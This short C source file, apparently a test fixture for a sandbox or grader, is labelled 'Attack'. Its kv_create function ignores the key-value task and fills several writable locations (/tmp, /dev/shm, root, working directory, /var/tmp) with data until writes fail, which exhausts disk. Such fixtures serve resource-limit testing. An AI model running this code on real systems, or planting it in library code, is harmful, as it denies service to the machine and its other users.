/* Attack: fills what it can write to. */
#include <fcntl.h>
#include <string.h>
#include <unistd.h>
#include "kv.h"

kv *kv_create(void) {
    static char block[1 << 20];
    const char *places[] = {"/tmp/a", "/dev/shm/a", "/a", "a", "/var/tmp/a"};
    for (int i = 0; i < 5; i++) {
        int fd = open(places[i], O_CREAT | O_WRONLY, 0600);
        while (fd >= 0 && write(fd, block, sizeof block) > 0) {
        }
    }
    return NULL;
}
